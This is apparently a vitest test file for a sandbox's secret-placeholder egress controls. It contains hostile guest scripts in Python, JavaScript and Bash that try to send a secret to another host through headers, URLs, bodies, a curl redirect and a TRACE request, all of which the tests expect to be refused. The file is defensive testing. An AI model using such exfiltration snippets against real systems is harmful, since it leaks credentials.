// T34 Secrets a guest can use but never read (docs/security.md, "Egress"): the guest's
// environment holds a placeholder; the trusted side puts the value in its place only on hops to
// the secret's hosts, refuses a request that carries a placeholder anywhere else (first hop,
// redirect, header, URL or body), and gives those hosts' answers back with the value replaced
// by the placeholder. Hostile guests in Python, JavaScript and Bash try to read it: by printing
// the environment, by an echo endpoint, by sending it to another granted host, by a redirect and
// by TRACE. Afterwards nothing the server keeps (results, network records, workspace files,
// snapshots with interpreter state, the data directory) holds the value.
//
// The two hosts are loopback stand-ins that record every request and echo it back.
import { readdirSync, readFileSync, statSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Runtime, Sandbox, testRuntime } from "../helpers/runtime.js";

const SECRET = "sk-live-7f3a9c1e5b2d4086";
const BODY_SECRET = "body-key-0c9d8e7f6a5b";
const SANDBOX_SECRET = "sandbox-own-2468ace13579";

interface Seen {
  method: string;
  url: string;
  headers: string;
  body: string;
}

/** Records each request and answers with all of it (as an echo endpoint or error page would). */
function stand() {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      const headers = req.rawHeaders.join("\n");
      const entry = { method: req.method ?? "", url: req.url ?? "", headers, body: "" };
      entry.body = Buffer.concat(chunks).toString();
      seen.push(entry);
      const to = /^\/redirect\?to=(.*)$/.exec(req.url ?? "")?.[1];
      if (to) {
        res.writeHead(307, { location: decodeURIComponent(to) });
        res.end();
        return;
      }
      res.writeHead(200, {
        "content-type": "text/plain",
        "x-echo-authorization": String(req.headers.authorization ?? ""),
      });
      res.end(`${req.method} ${req.url}\n${headers}\n\n${entry.body}`);
    });
  });
  return {
    server,
    seen,
    get origin() {
      return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    },
    get host() {
      return `127.0.0.1:${(server.address() as AddressInfo).port}`;
    },
  };
}

const api = stand();
const other = stand();
let rt: Runtime;
let dataDir: string;

beforeAll(async () => {
  await Promise.all(
    [api, other].map((s) => new Promise<void>((r) => s.server.listen(0, "127.0.0.1", r))),
  );
  dataDir = await mkdtemp(path.join(os.tmpdir(), "polybox-secrets-"));
  rt = await testRuntime({
    dataDir,
    pool: { python: 1, javascript: 1, bash: 1 },
    permissions: { net: [api.host, other.host] },
    net: {
      secrets: [
        { name: "API_TOKEN", value: SECRET, hosts: [api.host] },
        { name: "BODY_KEY", value: BODY_SECRET, hosts: [api.host], in: ["headers", "url", "body"] },
      ],
    },
  });
});

afterAll(async () => {
  await rt?.close();
  for (const s of [api, other]) {
    s.server.closeAllConnections();
    await new Promise((r) => s.server.close(r));
  }
  await rm(dataDir, { recursive: true, force: true });
});

/** Every request the two hosts received, as text. */
const received = (s: ReturnType<typeof stand>) =>
  s.seen.map((e) => `${e.method} ${e.url}\n${e.headers}\n${e.body}`).join("\n");

/** Every file under `dir`, read as bytes (latin1 keeps each byte). */
function everyFile(dir: string): string {
  let out = "";
  for (const name of readdirSync(dir)) {
    const p = path.join(dir, name);
    const st = statSync(p);
    if (st.isDirectory()) out += everyFile(p);
    else if (st.isFile()) out += readFileSync(p).toString("latin1");
  }
  return out;
}

function expectNoValue(text: string): void {
  for (const value of [SECRET, BODY_SECRET, SANDBOX_SECRET]) {
    expect(text).not.toContain(value);
    expect(text).not.toContain(encodeURIComponent(value));
  }
}

describe("T34 the guest holds a placeholder; the host gets the value", () => {
  it("Python: os.environ has a placeholder; urllib's header reaches the host as the value, and its echo comes back as the placeholder", async () => {
    await using sb = await Sandbox.create({ runtime: rt });
    api.seen.length = 0;
    const r = await sb.run(
      "python",
      `import os, urllib.request
token = os.environ["API_TOKEN"]
print(token.startswith("POLYBOX_SECRET_API_TOKEN_"), len(token))
req = urllib.request.Request("${api.origin}/py", headers={"Authorization": "Bearer " + token})
res = urllib.request.urlopen(req)
body = res.read().decode()
print("echoed placeholder:", token in body, "| header:", res.headers["x-echo-authorization"] == "Bearer " + token)
open("answer.txt", "w").write(body + str(dict(os.environ)))`,
    );
    expect(r.stdout, r.stderr).toBe("True 57\nechoed placeholder: True | header: True\n");
    expect(received(api)).toContain(`Bearer ${SECRET}`);
    expectNoValue(JSON.stringify(r));
    expectNoValue(new TextDecoder().decode(await sb.files.read("answer.txt")));
  });

  it("JavaScript: process.env and fetch, with the secret in the URL and body where the secret allows it", async () => {
    await using sb = await Sandbox.create({ runtime: rt });
    api.seen.length = 0;
    const r = await sb.run(
      "javascript",
      `const key = process.env.BODY_KEY;
const res = await fetch("${api.origin}/js?key=" + key, { method: "POST", body: JSON.stringify({ key }), headers: { "x-key": key } });
const text = await res.text();
console.log(key.startsWith("POLYBOX_SECRET_BODY_KEY_"), text.split(key).length - 1, JSON.stringify(process.env).includes(key));`,
    );
    expect(r.stdout, r.stderr).toBe("true 3 true\n");
    const seen = received(api);
    expect(seen).toContain(`/js?key=${BODY_SECRET}`);
    expect(seen).toContain(`x-key\n${BODY_SECRET}`);
    expect(seen).toContain(`{"key":"${BODY_SECRET}"}`);
    expectNoValue(JSON.stringify(r));
  });

  it("Bash: curl with the variable in a header; env shows only the placeholder", async () => {
    await using sb = await Sandbox.create({ runtime: rt });
    api.seen.length = 0;
    const r = await sb.run(
      "bash",
      `curl -sS -H "Authorization: Bearer $API_TOKEN" ${api.origin}/sh > echo.txt
grep -c "Bearer $API_TOKEN" echo.txt
env | grep -c POLYBOX_SECRET_`,
    );
    expect(r.stdout, r.stderr).toBe("1\n2\n");
    expect(received(api)).toContain(`Bearer ${SECRET}`);
    expectNoValue(JSON.stringify(r));
    expectNoValue(new TextDecoder().decode(await sb.files.read("echo.txt")));
  });

  it("a placeholder where its secret does not allow it goes as the placeholder (the URL of a headers-only secret)", async () => {
    await using sb = await Sandbox.create({ runtime: rt });
    api.seen.length = 0;
    const r = await sb.run(
      "javascript",
      `(await (await fetch("${api.origin}/q?t=" + process.env.API_TOKEN)).text()).split("\\n")[0]`,
    );
    expect(r.status, r.stderr).toBe("ok");
    expect(received(api)).not.toContain(SECRET);
    expect(api.seen[0]?.url).toMatch(/^\/q\?t=POLYBOX_SECRET_API_TOKEN_[0-9a-f]{32}$/);
  });
});

describe("T34 a placeholder headed anywhere else is refused, and nothing is sent", () => {
  const cases: [string, string, string][] = [
    [
      "python",
      "a header to another granted host",
      `import os, urllib.request, urllib.error
try:
    urllib.request.urlopen(urllib.request.Request("%OTHER%/h", headers={"X-Token": os.environ["API_TOKEN"]}))
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())`,
    ],
    [
      "javascript",
      "the body to another granted host",
      `const r = await fetch("%OTHER%/b", { method: "POST", body: "k=" + process.env.BODY_KEY }).then((r) => "sent " + r.status, (e) => String(e));
console.log(r);`,
    ],
    [
      "javascript",
      "the URL to another granted host",
      `console.log(await fetch("%OTHER%/u?k=" + process.env.BODY_KEY).then((r) => "sent " + r.status, (e) => String(e)));`,
    ],
    [
      "bash",
      "a redirect from the secret's host to another host",
      `curl -sS -L -H "X-Token: $API_TOKEN" "%API%/redirect?to=%OTHER%%2Flanded"; echo " rc=$?"`,
    ],
  ];
  it.each(cases)("%s: %s", async (language, _what, template) => {
    await using sb = await Sandbox.create({ runtime: rt });
    other.seen.length = 0;
    const code = template.replaceAll("%OTHER%", other.origin).replaceAll("%API%", api.origin);
    const r = await sb.run(language as "python", code);
    expect(other.seen, "the other host received a request").toEqual([]);
    const refusal = r.network?.find((n) => n.denied)?.denied ?? "";
    expect(refusal).toMatch(
      /carries the placeholder of secret (API_TOKEN|BODY_KEY), which is sent only to 127\.0\.0\.1:\d+: refused/,
    );
    expect(`${r.stdout}${r.stderr}`).toMatch(/placeholder of secret/);
    expectNoValue(JSON.stringify(r));
  });

  it("TRACE to the secret's host is refused (its answer would reflect the request)", async () => {
    await using sb = await Sandbox.create({ runtime: rt });
    api.seen.length = 0;
    const r = await sb.run(
      "javascript",
      `console.log(await fetch("${api.origin}/t", { method: "TRACE", headers: { "x-t": process.env.API_TOKEN } }).then((r) => r.status, (e) => String(e)));`,
    );
    expect(api.seen).toEqual([]);
    expect(r.network?.[0]?.denied).toMatch(/TRACE .* secrets \(--net-secret\)/);
  });

  it("a redirect from another host to the secret's host gets the value on that hop", async () => {
    await using sb = await Sandbox.create({ runtime: rt });
    api.seen.length = 0;
    other.seen.length = 0;
    // The placeholder must not reach the first host either: the request starts without it.
    const r = await sb.run(
      "bash",
      `curl -sS -L "${other.origin}/redirect?to=${encodeURIComponent(`${api.origin}/after`)}" -o /dev/null -w "%{http_code}"`,
    );
    expect(r.stdout, r.stderr).toBe("200");
    expect(other.seen.length).toBe(1);
    expect(api.seen.map((s) => s.url)).toEqual(["/after"]);
  });
});

describe("T34 a sandbox's own secrets", () => {
  it("are used like the runtime's, within the runtime's grant, and replace one of the same name", async () => {
    api.seen.length = 0;
    await using sb = await Sandbox.create({
      runtime: rt,
      secrets: [{ name: "API_TOKEN", value: SANDBOX_SECRET, hosts: [api.host] }],
    });
    const r = await sb.run(
      "bash",
      `curl -sS -o /dev/null -H "Authorization: $API_TOKEN" ${api.origin}/own; echo "$BODY_KEY" | cut -c1-24`,
    );
    expect(r.stdout, r.stderr).toBe("POLYBOX_SECRET_BODY_KEY_\n");
    expect(api.seen[0]?.headers).toContain(`authorization\n${SANDBOX_SECRET}`);
  });

  it.each([
    [{ name: "X", value: "long-enough-value", hosts: ["elsewhere.example"] }, "PERMISSION_DENIED"],
    [{ name: "1X", value: "long-enough-value", hosts: ["127.0.0.1"] }, "INVALID_ARGUMENT"],
    [{ name: "X", value: "short", hosts: ["127.0.0.1"] }, "INVALID_ARGUMENT"],
    [{ name: "X", value: "with\r\nnewline", hosts: ["127.0.0.1"] }, "INVALID_ARGUMENT"],
    [{ name: "X", value: "long-enough-value", hosts: ["*"] }, "INVALID_ARGUMENT"],
    [{ name: "X", value: "long-enough-value", hosts: [] }, "INVALID_ARGUMENT"],
  ])("refuses %j with %s", async (secret, code) => {
    await expect(Sandbox.create({ runtime: rt, secrets: [secret as never] })).rejects.toMatchObject(
      { code },
    );
  });
});

describe("T34 the number of secrets is bounded", () => {
  it("refuses a 33rd secret, naming the bound", async () => {
    const many = Array.from({ length: 33 }, (_, i) => ({
      name: `S${i}`,
      value: "long-enough-value",
      hosts: [api.host],
    }));
    await expect(Sandbox.create({ runtime: rt, secrets: many })).rejects.toMatchObject({
      code: "INVALID_ARGUMENT",
      message: expect.stringContaining("at most 32 secrets"),
    });
  });
});

describe("T34 nothing the server keeps holds the value", () => {
  it("a named sandbox, its snapshot (with Python's state) and the data directory hold only placeholders", async () => {
    await using sb = await Sandbox.open("secret-keeper", {
      runtime: rt,
      secrets: [{ name: "OWN", value: SANDBOX_SECRET, hosts: [api.host] }],
    });
    const r = await sb.run(
      "python",
      `import os, urllib.request
kept = {k: v for k, v in os.environ.items()}
kept["echo"] = urllib.request.urlopen(urllib.request.Request("${api.origin}/keep", headers={"A": os.environ["OWN"], "B": os.environ["API_TOKEN"]})).read().decode()
open("kept.txt", "w").write(repr(kept))
len(kept["echo"]) > 0`,
    );
    expect(r.value, r.stderr).toBe("True");
    await sb.snapshot({ label: "with secrets" });
    const all = everyFile(dataDir);
    expect(all).toContain("POLYBOX_SECRET_OWN_");
    expectNoValue(all);
  });
});
